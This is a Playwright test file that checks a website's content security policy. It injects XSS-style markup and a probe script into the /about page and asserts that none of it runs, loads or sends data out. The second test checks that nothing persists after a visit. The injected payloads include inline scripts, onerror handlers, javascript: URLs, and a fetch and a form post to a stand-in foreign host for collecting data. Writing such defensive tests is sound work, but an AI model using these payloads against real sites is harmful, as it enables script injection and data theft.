import { about } from './content.ts'
import { anInquiry, FIELD_NAMES, fill, send } from './inquiries.ts'
import { expect, PAGES, test, visit, type Page } from './page-helpers.ts'

test.use({ hasVideo: true })

const FOREIGN = 'https://foreign.test'

/** What an attacker would put into the page. Each part that runs records it. */
const INJECTED = `
<base href="${FOREIGN}/">
<style>h2 { display: none !important }</style>
<script>ran.push('inline script')</script>
<script src="${FOREIGN}/code.js"></script>
<script src="/probe.js"></script>
<img src="/nowhere.png" onerror="ran.push('event handler')">
<iframe src="javascript:top.ran.push('script address of a frame')"></iframe>
<iframe src="${FOREIGN}/frame"></iframe>
<object data="${FOREIGN}/object"></object>
<a href="javascript:ran.push('script address')">trap</a>
<form action="${FOREIGN}/take" method="post"><button>take</button></form>`

/** Code on the site's own origin that does what a fault of ours would have to do first. */
const PROBE = `
const attempt = (name, act) => { try { act(); ran.push(name) } catch { refused.push(name) } }
attempt('eval', () => eval('1'))
attempt('text as markup', () => { document.createElement('p').innerHTML = '<b>1</b>' })
attempt('text as a frame', () => { document.createElement('iframe').srcdoc = '<b>1</b>' })
attempt('text as the address of a script', () => { document.createElement('script').src = '/x.js' })
attempt('a policy of its own', () => trustedTypes.createPolicy('own', {}))
fetch('${FOREIGN}/collect').then(() => ran.push('foreign call'), () => refused.push('foreign call'))`

const heardIn = (page: Page) =>
  page.evaluate(() => {
    const { ran, refused } = window as unknown as Record<'ran' | 'refused', string[]>
    return { ran, refused }
  })

test('injected markup: nothing of it runs, loads, or leads away', async ({ page, baseURL }) => {
  const reached: string[] = []
  await page.addInitScript(() => Object.assign(window, { ran: [], refused: [] }))
  await page.route(`${FOREIGN}/**`, async (route) => {
    reached.push(route.request().url())
    await route.fulfill({ contentType: 'text/javascript', body: 'ran.push("foreign script")' })
  })
  await page.route('**/probe.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: PROBE }),
  )
  await page.route('**/about', async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</title>', () => `</title>${INJECTED}`)
    await route.fulfill({ response: answer, body })
  })
  await visit(page, '/about')
  await page.getByRole('link', { name: 'trap' }).click()
  await expect.poll(async () => (await heardIn(page)).refused.length).toBe(6)
  expect((await heardIn(page)).ran).toEqual([])
  expect(await page.evaluate(() => document.baseURI)).toBe(`${baseURL}/about`)
  await expect(page.getByRole('heading', { name: about.freight.headline })).toBeVisible()

  const word = page.waitForEvent('console', (message) => message.text().includes('form-action'))
  await page.getByRole('button', { name: 'take' }).click({ noWaitAfter: true })
  await word
  expect(page.url()).toBe(`${baseURL}/about`)
  expect(reached).toEqual([])
})

test('visit: leaves nothing that outlives the tab @inbox', async ({ page, context }) => {
  for (const path of PAGES) await visit(page, path)
  const typed = anInquiry()
  await fill(page, typed)
  expect(await page.evaluate(() => Object.keys(sessionStorage).toSorted())).toEqual(
    FIELD_NAMES.map((name) => `inquiry-${name}`).toSorted(),
  )
  await send(page)
  expect(await context.cookies()).toEqual([])
  const left = await page.evaluate(async () => [
    ...Object.keys(localStorage),
    // That a field was sent is kept until the tab is closed, its text is not.
    ...Object.values(sessionStorage).filter(Boolean),
    ...(await caches.keys()),
    ...(await indexedDB.databases()),
    ...(await navigator.serviceWorker.getRegistrations()),
  ])
  expect(left).toEqual([])
})
